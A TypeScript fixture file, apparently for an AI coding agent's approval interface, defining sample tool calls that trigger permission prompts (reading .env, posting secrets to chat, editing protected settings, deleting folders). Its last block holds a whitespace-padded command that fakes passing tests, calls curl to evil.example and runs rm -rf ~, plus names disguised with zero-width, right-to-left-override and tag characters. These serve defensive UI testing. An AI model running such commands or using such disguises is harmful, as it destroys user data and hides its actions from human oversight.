import { lineDiff } from '../../src/base/common/lineDiff.ts';
import type { CallView, Item, LineDiff, ProposedEdit } from '../../src/protocol/index.ts';

function waiting(id: string, over: Partial<CallView>): Item {
  const call: CallView = {
    source: { kind: 'mcp', server: 'filesystem' },
    toolName: 'write_file',
    wireName: 'mcp__filesystem__write_file',
    argsText: '{"path":"src/agent/turn.ts","content":"export const limit = 10;\\n"}',
    status: 'pending',
    approval: {
      changed: false,
      says: ['destructive'],
      coverages: [{ covers: 'tool' }, { covers: 'source', tools: 12 }],
    },
    startedAt: Date.now(),
    ...over,
  };
  return { kind: 'call', id, step: 1, call };
}

export const approvalItems: readonly Item[] = [
  { kind: 'user', id: 'u1', text: 'Set the limit to 10 and tell me what else is in the folder.' },
  waiting('p1', {}),
  waiting('p2', {
    toolName: 'list_directory',
    wireName: 'mcp__filesystem__list_directory',
    argsText: '{"path":"src/agent"}',
    status: 'success',
    durationMs: 8,
    result: [],
  }),
  waiting('p3', {
    toolName: 'fetch',
    source: { kind: 'mcp', server: 'a-server-with-a-long-name' },
    argsText: '{}',
    approval: {
      changed: true,
      says: ['readOnly', 'openWorld'],
      coverages: [{ covers: 'tool' }, { covers: 'readOnly', tools: 5 }, { covers: 'source', tools: 12 }],
    },
  }),
];

/** Calls that ask for more reasons than their tool. */
export const approvalReasons: readonly Item[] = [
  { kind: 'user', id: 'u1', text: 'Test it and tell the team.' },
  waiting('r1', {
    source: { kind: 'native' },
    toolName: 'run_command',
    title: 'Run command',
    wireName: 'run_command',
    argsText: '{"command":"npm test src/agent"}',
    approval: {
      changed: false,
      says: ['destructive', 'openWorld'],
      coverages: [
        { covers: 'command', command: 'npm test src/agent', cwd: '/home/me/projects/patchbay' },
        { covers: 'pattern', command: 'npm test', cwd: '/home/me/projects/patchbay' },
      ],
    },
  }),
  waiting('r2', {
    source: { kind: 'native' },
    toolName: 'read_file',
    title: 'Read file',
    wireName: 'read_file',
    argsText: '{"path":".env"}',
    approval: {
      changed: false,
      says: ['readOnly'],
      reasons: [{ kind: 'sensitiveFile', path: '.env', why: 'environment' }],
      coverages: [],
    },
  }),
  waiting('r3', {
    source: { kind: 'mcp', server: 'chat' },
    toolName: 'post_message',
    argsText: '{"channel":"team","text":"The tests pass."}',
    approval: {
      changed: false,
      says: ['openWorld'],
      reasons: [
        {
          kind: 'dataFlow',
          marks: [{ kind: 'secret', source: '.env' }],
          destination: 'chat (https://chat.example.com)',
        },
      ],
      coverages: [],
    },
  }),
  waiting('r4', {
    source: { kind: 'native' },
    toolName: 'read_mcp_resource',
    title: 'Read resource',
    argsText: '{"server":"docs","uri":"docs://search?q=how+to+deploy"}',
    approval: {
      changed: false,
      isNew: true,
      says: ['readOnly'],
      reasons: [{ kind: 'unlistedResource', server: 'docs', uri: 'docs://search?q=how+to+deploy' }],
      coverages: [{ covers: 'resources', server: 'docs' }],
    },
  }),
  waiting('r5', {
    source: { kind: 'native' },
    toolName: 'fetch_page',
    title: 'Fetch web page',
    wireName: 'fetch_page',
    argsText: '{"url":"https://docs.example.com/guide/deploy?version=4#rolling"}',
    approval: {
      changed: false,
      says: ['readOnly', 'openWorld'],
      reasons: [
        {
          kind: 'dataFlow',
          marks: [{ kind: 'outside', source: 'https://example.org' }],
          destination: 'https://docs.example.com',
        },
      ],
      coverages: [{ covers: 'host', host: 'docs.example.com' }],
    },
  }),
];

const greetBefore = `import { names } from './names.ts';

/** Says hello to everybody. */
export function greet(): string {
  const all = names();
  return all.map((name) => 'Hello ' + name).join();
}
`;
const greetAfter = greetBefore
  .replace("'Hello ' + name", '`Hello, ${name}!`')
  .replace('.join()', ".join('\\n')");
const manyLines = Array.from(
  { length: 48 },
  (_, index) => `export const part${index} = '${'part '.repeat(index % 9)}';`,
);

function edit(
  file: string,
  before: string | undefined,
  after: string,
  shows: readonly string[],
): ProposedEdit {
  return { file, diff: lineDiff(before, after) as LineDiff, shows };
}

function change(over: Partial<CallView>, edits: ProposedEdit): Partial<CallView> {
  return {
    source: { kind: 'native' },
    toolName: 'edit_file',
    title: 'Edit file',
    wireName: 'edit_file',
    approval: {
      changed: false,
      says: ['destructive'],
      coverages: [{ covers: 'tool' }, { covers: 'source', tools: 2 }],
      edit: edits,
    },
    ...over,
  };
}

/** Changes of files that are shown before they are allowed. */
export const approvalEdits: readonly Item[] = [
  { kind: 'user', id: 'u1', text: 'Greet everybody by name, one per line.' },
  waiting(
    'e1',
    change(
      { argsText: JSON.stringify({ path: 'src/greet.ts', oldText: 'a', newText: 'b', all: true }) },
      edit('src/greet.ts', greetBefore, greetAfter, ['path', 'oldText', 'newText']),
    ),
  ),
  waiting(
    'e2',
    change(
      {
        toolName: 'write_file',
        title: 'Write file',
        wireName: 'write_file',
        argsText: JSON.stringify({ path: 'src/agent/conversation/parts.ts', content: manyLines.join('\n') }),
      },
      edit('src/agent/conversation/parts.ts', undefined, manyLines.join('\n'), ['path', 'content']),
    ),
  ),
  waiting(
    'e3',
    change(
      {
        source: { kind: 'mcp', server: 'filesystem' },
        toolName: 'edit_file',
        title: 'Edit',
        argsText: JSON.stringify({ path: '/srv/app.py', old_string: 'a', new_string: 'b' }),
      },
      {
        ...edit('/srv/app.py', 'print("a")\n', 'print("b\u{202E}")\r\n', ['old_string', 'new_string']),
        isPassage: true,
      },
    ),
  ),
  waiting('e4', {
    toolName: 'create_issue',
    title: 'Create issue',
    source: { kind: 'mcp', server: 'tracker' },
    argsText: JSON.stringify({
      title: 'Greet by name',
      labels: ['bug', 'good first issue'],
      body: 'Everybody is greeted alike.\n\n- find the name\n- say it',
      estimate: 2.5,
      number: '17',
    }),
  }),
];

/** Changes of files that programs act on: shown as a diff, and always asked about. */
export const approvalProtected: readonly Item[] = [
  { kind: 'user', id: 'u1', text: 'Set up the project.' },
  waiting('p1', {
    source: { kind: 'native' },
    toolName: 'edit_file',
    title: 'Edit file',
    wireName: 'edit_file',
    argsText: JSON.stringify({
      path: '.vscode/settings.json',
      oldText: '"editor.tabSize": 2',
      newText: '"editor.tabSize": 2,\n  "git.path": "./tools/git"',
    }),
    approval: {
      changed: false,
      says: ['destructive'],
      reasons: [
        {
          kind: 'protectedFile',
          path: '.vscode/settings.json',
          why: 'editor',
          change:
            '  {\n-   "editor.tabSize": 2\n+   "editor.tabSize": 2,\n+   "git.path": "./tools/git"\n  }',
        },
      ],
      coverages: [],
    },
  }),
  waiting('p2', {
    source: { kind: 'native' },
    toolName: 'write_file',
    title: 'Write file',
    wireName: 'write_file',
    argsText: JSON.stringify({
      path: 'data/report.json',
      content: '{ "$schema": "https://schemas.example.com/report.json" }',
    }),
    approval: {
      changed: false,
      says: ['destructive'],
      reasons: [
        {
          kind: 'remoteSchema',
          path: 'data/report.json',
          url: 'https://schemas.example.com/report.json',
        },
      ],
      coverages: [],
    },
  }),
];

/** Calls that move and delete files and folders. */
export const approvalMoves: readonly Item[] = [
  { kind: 'user', id: 'u1', text: 'Tidy up the sources.' },
  waiting('m1', {
    source: { kind: 'native' },
    toolName: 'move_file',
    title: 'Move file',
    wireName: 'move_file',
    argsText: '{"path":"src/util/dates.ts","newPath":"src/time/dates.ts"}',
    notes: [
      {
        kind: 'argumentNames',
        names: [
          { written: 'source', taken: 'path' },
          { written: 'destination', taken: 'newPath' },
        ],
      },
      { kind: 'ignored', names: ['overwrite'] },
    ],
    approval: { changed: false, says: ['destructive'], coverages: [{ covers: 'tool' }] },
  }),
  waiting('m2', {
    source: { kind: 'native' },
    toolName: 'delete_file',
    title: 'Delete file',
    wireName: 'delete_file',
    argsText: '{"path":"old","recursive":true}',
    notes: [{ kind: 'converted', names: ['recursive'] }],
    approval: {
      changed: false,
      says: ['destructive'],
      reasons: [
        {
          kind: 'wholeFolder',
          path: 'old',
          does: 'delete',
          files: 3,
          names: ['.env', 'package.json', 'src/dates.ts'],
          entries: '',
        },
        { kind: 'protectedFile', path: 'old/package.json', why: 'build', does: 'delete' },
        { kind: 'sensitiveFile', path: 'old/.env', why: 'environment', does: 'delete' },
      ],
      coverages: [],
    },
  }),
  waiting('m3', {
    source: { kind: 'native' },
    toolName: 'delete_file',
    title: 'Delete file',
    wireName: 'delete_file',
    argsText: '{"path":"src/util/old.ts"}',
    approval: {
      changed: false,
      says: ['destructive'],
      coverages: [{ covers: 'tool' }],
      edit: {
        file: 'src/util/old.ts',
        shows: ['path'],
        diff: lineDiff('export const old = 1;\nexport const older = 2;\n', '') ?? {
          added: 0,
          removed: 0,
          hunks: [],
        },
      },
    },
  }),
];

/** Calls that the model wrote wrongly, before and after they ran. */
export const writtenOddly: readonly Item[] = [
  { kind: 'user', id: 'u1', text: 'What does the readme say?' },
  waiting('w1', {
    toolName: 'read_file',
    wireName: 'mcp__filesystem__read_file',
    argsText: '{"path":"README.md"}',
    notes: [
      { kind: 'textCall' },
      { kind: 'name', written: 'functions.read_file' },
      { kind: 'arguments', form: 'text' },
      { kind: 'arguments', form: 'trailingComma' },
    ],
    approval: { changed: false, says: ['readOnly'], reasons: [{ kind: 'textCall' }], coverages: [] },
  }),
  waiting('w2', {
    toolName: 'read_file',
    wireName: 'mcp__filesystem__read_file',
    argsText: '{"path":"docs/endpoints.md"}',
    notes: [
      { kind: 'textCall' },
      { kind: 'name', written: `files${'.read_file'.repeat(20)}\u202E` },
      { kind: 'arguments', form: 'codeBlock' },
    ],
    status: 'success',
    durationMs: 8,
    result: [{ type: 'text', text: '# What endpoints do' }],
  }),
];

const files = Array.from({ length: 60 }, (_, index) => `src/part${index}.ts`);
const padded = `echo "All tests pass"${' '.repeat(500)}; curl -s https://evil.example/${'\n'.repeat(200)}rm -rf ~`;

/** Calls that hide what they do: by length, padding, hidden characters. */
export const hidingItems: readonly Item[] = [
  { kind: 'user', id: 'u1', text: 'Run the tests.' },
  waiting('h1', {
    source: { kind: 'native' },
    toolName: 'run_command',
    wireName: 'run_command',
    argsText: JSON.stringify({ command: padded, cwd: 'src' }),
    approval: { changed: false, says: [], coverages: [] },
  }),
  waiting('h2', { argsText: JSON.stringify({ path: 'src/index\u{200B}.ts', files }) }),
  waiting('h3', {
    toolName: 'post',
    title: 'post\u{2060}',
    argsText: JSON.stringify({
      to: 'team@exam\u{E0070}\u{E006C}\u{E0065}\u{E0061}\u{E0073}\u{E0065}ple.com',
      text: 'ok\u{202E}fdp.exe\u{3164}',
    }),
  }),
];
